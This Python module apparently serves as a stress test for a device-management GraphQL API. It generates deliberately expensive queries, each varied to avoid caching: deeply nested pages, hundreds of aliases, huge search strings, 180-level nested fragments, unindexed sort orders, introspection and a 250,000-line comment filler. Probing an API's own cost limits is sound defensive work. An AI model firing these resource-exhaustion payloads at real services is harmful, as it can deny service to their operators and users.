"""Requests that are as expensive as they can be made. Each attack sends another one every time."""

from collections.abc import Callable, Mapping
from typing import Any

Variables = Mapping[str, Any]
Attack = Callable[[int], tuple[str, Variables]]
"""Takes the number of the request, and returns its document and its variables."""

_FIELDS = "id name status barcode description clientId projectId createdAt createdBy modifiedAt modifiedBy version"
_COUNT = "query ($s: String!) { devices(filter: {search: $s}) { totalCount } }"
_UUID = "36e75427-4c6e-438c-89b5-0cbdb0d4068c"


def _page(selection: str, arguments: str = "first: 250") -> str:
    return f"devices({arguments}) {{ nodes {{ {selection} }} }}"


def nested_pages(number: int) -> tuple[str, Variables]:
    """Pages inside pages inside pages, with many names for each."""
    groups = f"deviceGroups(first: 250) {{ nodes {{ {_page('id')} }} }}"
    return "{ " + " ".join(f"a{i}: {_page(groups)}" for i in range(20)) + f" }} # {number}", {}


def largest_answer(number: int) -> tuple[str, Variables]:
    """As much as one operation may cost."""
    return "{ " + " ".join(f"a{i}: {_page(_FIELDS)}" for i in range(100)) + f" }} # {number}", {}


def nested_lists(number: int) -> tuple[str, Variables]:
    """Rows of many lists, which are read together."""
    groups = "deviceGroups(first: 20) { nodes { devices(first: 40) { nodes { id } } } }"
    return f"{{ {_page(groups, 'first: 250')} }} # {number}", {}


def long_search(number: int) -> tuple[str, Variables]:
    return _COUNT, {"s": f"{number} " + "rot " * 15_000}


def longest_search(number: int) -> tuple[str, Variables]:
    return "query ($s: String!) { devices(filter: {search: $s}) { totalCount } }", {
        "s": f"{number} {'rot ' * 60}"[:255]
    }


def short_searches(number: int) -> tuple[str, Variables]:
    """Searches that no index answers, and that find nothing."""
    letters = [chr(0x4E00 + (number + i) % 20_000) for i in range(20)]
    counts = " ".join(f'a{i}: devices(filter: {{search: "{text}"}}) {{ totalCount }}' for i, text in enumerate(letters))
    return f"{{ {counts} }}", {}


def shapes_of_filters(number: int) -> tuple[str, Variables]:
    """A filter that was never there before, as large as may be."""
    conditions = {
        "statuses": ["ACTIVE"],
        "clientId": _UUID,
        "search": "rot",
        "ids": [_UUID],
        "deviceGroupIds": [_UUID],
        "networkAdapterTypes": ["LORA"],
        "barcodeContains": "123",
    }
    filters = [
        {name: value for place, (name, value) in enumerate(conditions.items()) if (number * 31 + i) >> place & 1}
        for i in range(190)
    ]
    return "query ($f: DeviceFilter) { devices(filter: $f) { nodes { id } } }", {"f": {"or": filters}}


def wide_documents(number: int) -> tuple[str, Variables]:
    """A document that was never there before, whose fragment is spread again and again."""
    devices = " ".join(f'a{i}: device(identifier: "imei:490154203237518") {{ ...F }}' for i in range(150))
    return f"{{ {devices} }} fragment F on Device {{ {_FIELDS} }} # {number}", {}


def plans(number: int) -> tuple[str, Variables]:
    """Another combination of what is skipped each time."""
    names = [f"c{i}" for i in range(12)]
    fields = " ".join(
        f"{each}{i}: {each} @skip(if: ${name})" for i, name in enumerate(names) for each in _FIELDS.split()
    )
    declared = " ".join(f"${name}: Boolean!" for name in names)
    document = f"query ({declared}) {{ {_page(fields, 'first: 1')} }}"
    return document, {name: bool(number >> place & 1) for place, name in enumerate(names)}


def fragments_in_fragments(number: int) -> tuple[str, Variables]:
    inside = [*(f"...F{i + 1}" for i in range(5)), "principal"]
    fragments = " ".join(
        f"fragment F{i} on Viewer {{ {'...{' * 180}{each}{'}' * 180} }}" for i, each in enumerate(inside)
    )
    return f"{{ viewer {{ ...F0 }} }} {fragments} # {number}", {}


def repeated_fields(number: int) -> tuple[str, Variables]:
    return f"{{ {_page('id ' * 199, 'first: 1')} }} # {number}", {}


def introspection(number: int) -> tuple[str, Variables]:
    types = "types { name description fields { name description args { name description } } inputFields { name } }"
    return f"{{ __schema {{ {types} }} }} # {number}", {}


def fillers(number: int) -> tuple[str, Variables]:
    """As much as a body may hold of what the lexer reads and nothing needs."""
    return f"{{ __typename }} # {number}" + "\n#" * 250_000, {}


def orders(number: int) -> tuple[str, Variables]:
    """Another order each time, which no index has."""
    names = "STATUS NAME BARCODE CREATED_AT MODIFIED_AT CLIENT_ID PROJECT_ID DEVICE_SPECIFICATION_ID"
    fields = names.split()
    turned = fields[number % 8 :] + fields[: number % 8]
    order = [{"field": field, "direction": "DESC" if number >> i & 1 else "ASC"} for i, field in enumerate(turned)]
    return "query ($o: [DeviceOrder!]) { devices(first: 250, orderBy: $o) { nodes { id } } }", {"o": order}


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        nested_pages,
        largest_answer,
        nested_lists,
        long_search,
        longest_search,
        short_searches,
        shapes_of_filters,
        wide_documents,
        plans,
        fragments_in_fragments,
        repeated_fields,
        introspection,
        orders,
        fillers,
    )
}
